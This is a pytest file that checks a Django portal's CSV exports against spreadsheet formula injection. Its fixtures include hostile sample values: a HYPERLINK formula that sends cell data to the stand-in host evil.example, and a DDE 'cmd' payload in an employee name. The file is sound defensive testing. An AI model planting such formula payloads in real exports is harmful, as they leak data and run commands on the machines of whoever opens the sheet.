"""CSV exports: a value a spreadsheet would run as a formula is written as text, in every export."""

import csv
import io
from datetime import date, timedelta

import pytest

from portal.core.exports import csv_cell
from tests.factories_registry import CardFactory, EmploymentFactory

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+44 7700 900123", "-2+3", "@SUM(A1:A9)", "\t=1+1",
           "\r=1+1"]  # fmt: skip


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_start_is_made_text(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Smith, John", "O'Neil", "AB123456C", "2026-11-30", "", "a=b", "Ann-Marie"])
def test_ordinary_values_are_unchanged(value):
    assert csv_cell(value) == value


def test_none_is_an_empty_cell():
    assert csv_cell(None) == ""


def _rows(response) -> list[list[str]]:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "no-store" in response["Cache-Control"]
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.parametrize("url", ["/portal/employees/?format=csv", "/portal/employees/cards/expiring/?format=csv"])
def test_every_employee_export_neutralises_a_hostile_name(portal_client, primary_user, url):
    employment = EmploymentFactory(
        organisation=primary_user.organisation,
        operative__first_name="@SUM(1+1)",
        operative__last_name='=HYPERLINK("http://evil.example","x")',
    )
    CardFactory(operative=employment.operative, number="55550009", expires_on=date.today() + timedelta(days=20))
    rows = _rows(portal_client.get(url))
    name = next(row[0] for row in rows[1:] if "HYPERLINK" in row[0])
    assert name.startswith("'=HYPERLINK(")
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_the_expired_cards_export_neutralises_too(portal_client, primary_user):
    employment = EmploymentFactory(organisation=primary_user.organisation, operative__last_name="-cmd|' /C calc'!A0")
    CardFactory(operative=employment.operative, number="55550010", expires_on=date.today() - timedelta(days=20))
    rows = _rows(portal_client.get("/portal/employees/cards/expired/?format=csv"))
    assert any(row[0].startswith("'-cmd|") for row in rows[1:])
